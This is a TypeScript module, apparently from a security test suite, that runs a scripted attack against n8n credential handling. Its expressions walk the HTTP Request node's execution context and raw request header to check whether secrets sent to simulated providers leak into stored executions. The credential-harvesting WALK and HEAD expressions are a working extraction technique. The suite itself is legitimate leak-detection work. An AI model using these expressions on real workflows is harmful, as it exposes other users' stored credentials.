import type { ServerResponse } from 'node:http';
import { isLogin } from '../../test/support/isLogin.cjs';
import { chain, START, type Step } from '../../test/e2e/support/workflow.cjs';
import type { Account } from './accounts.cjs';
import type { Arena } from './arena.cjs';
import { EIGHT, type Attack } from './attack.cjs';
import { Finder } from './encodings.cjs';
import type { Visit } from './internet.cjs';
import { reproduces } from './reproduction.cjs';
import { httpRequest } from './request.cjs';
import { signaturesIn } from './secrets.cjs';
import { throwaway } from './throwaway.cjs';

/** What n8n's own Header Auth sends, without this package. */
const OWN = 'secret-of-the-owner-5f2c81';

/** All that an expression finds in the context of the node H. */
const WALK = `={{ (() => {
	const found = [];
	const known = new Set();
	const walk = (value, depth) => {
		if (typeof value === 'string') { if (value.length < 20000) found.push(value); return; }
		if (!value || typeof value !== 'object' || depth > 6 || known.has(value) || known.size > 3000) return;
		known.add(value);
		for (const name of Object.getOwnPropertyNames(value)) {
			try { walk(value[name], depth + 1); } catch (e) {}
		}
	};
	walk($('H').context, 0);
	const { response } = $('H').context;
	for (const part of [response, response?.body, response?.request]) {
		for (const name of ['req', '_header', '_readableState', 'client', '_httpMessage', 'request']) {
			try { walk(part?.[name], 2); } catch (e) {}
		}
	}
	return found.join('\\n');
})() }}`;

const HEAD = "={{ $('H').context.response.body.req._header }}";

/** Answers that n8n keeps as they are: a file, and what says that it is JSON and is not. */
const ANSWERS = { file: 'some text', json: '{"broken' };

function answering(kind: keyof typeof ANSWERS) {
	const type = kind === 'file' ? 'application/octet-stream' : 'application/json';
	return (visit: Visit, response: ServerResponse): true | undefined => {
		if (isLogin({ path: visit.url })) return undefined;
		response.writeHead(200, { 'content-type': type }).end(ANSWERS[kind]);
		return true;
	};
}

const shown = (name: string, value: string): Step => ({
	name,
	type: 'n8n-nodes-base.set',
	typeVersion: 3.4,
	parameters: {
		assignments: { assignments: [{ id: name, name: 'found', type: 'string', value }] },
		options: {},
	},
	continueOnFail: true,
});

/** What the execution holds of one request, read by the nodes behind it. */
async function stored(
	{ rest }: Arena,
	url: string,
	credential: Account['stored'],
	method: string,
	kind: keyof typeof ANSWERS,
): Promise<string> {
	const file = { response: { response: { responseFormat: 'file' } } };
	const steps = [
		httpRequest('H', credential, { method, options: kind === 'file' ? file : {} }),
		shown('head', HEAD),
		shown('walk', WALK),
	];
	const workflow = await rest.createWorkflow(chain(steps, [{ url }]));
	return (await rest.run(workflow, START)).stored;
}

async function attack(arena: Arena, account: Account, index: number): Promise<string[]> {
	const { internet } = arena;
	const host = `context${index}.provider.test`;
	internet.add(host, account.simulator.url);
	const baseUrl = account.baseUrl.replace(account.host, host);
	const credential = await account.variation({ ...throwaway(account.type), baseUrl });
	const { method, path } = account.sample;
	const broken: string[] = [];
	for (const kind of ['file', 'json'] as const) {
		internet.answers.set(host, answering(kind));
		const text = await stored(arena, `${baseUrl}${path}`, credential, method, kind);
		const sent = internet.atProviders.filter(({ origin }) => origin.includes(`//${host}:`));
		const secrets = new Finder(
			sent.filter(({ url }) => !isLogin({ path: url })).flatMap(signaturesIn),
		);
		if (secrets.isIn(text)) broken.push(`${account.name} (${kind})`);
	}
	return broken;
}

const PAGE = 'raw-request-head-in-the-execution-context.md';

export const executionContext: Attack = {
	name: 'The raw request in the execution context, after a file or broken JSON (6.9)',
	who: 'U',
	against: EIGHT,
	upstream: PAGE,
	run: async (arena) => {
		const broken: string[] = [];
		for (const [index, account] of arena.accounts.entries()) {
			broken.push(...(await attack(arena, account, index)));
		}
		const credential = {
			name: 'Header Auth',
			type: 'httpHeaderAuth',
			data: { name: 'X', value: OWN },
		};
		if (await reproduces(arena.rest, PAGE, credential, OWN)) broken.push('n8n’s own Header Auth');
		return { tries: arena.accounts.length * 2 + 1, broken };
	},
};
